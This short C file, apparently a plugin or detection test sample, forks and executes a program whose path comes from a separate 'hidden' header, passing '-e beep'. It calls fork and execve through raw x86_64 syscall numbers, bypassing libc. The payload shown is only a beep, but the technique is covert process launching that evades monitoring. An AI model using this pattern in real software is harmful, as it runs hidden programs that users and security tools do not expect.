/* Forks and starts a hidden program through syscall(), by numbers. */
#include "plugin.h"
#include "hidden.h" /* 0: the program */
extern long syscall(long, ...);
enum { FORK = 57, EXECVE = 59, EXIT = 60 }; /* x86_64 */
static void act(char **env) {
    char *program = hidden0();
    char *arguments[] = {program, "-e", "beep", 0};
    if (syscall(FORK) == 0) {
        syscall(EXECVE, program, arguments, env);
        syscall(EXIT, 1);
    }
}
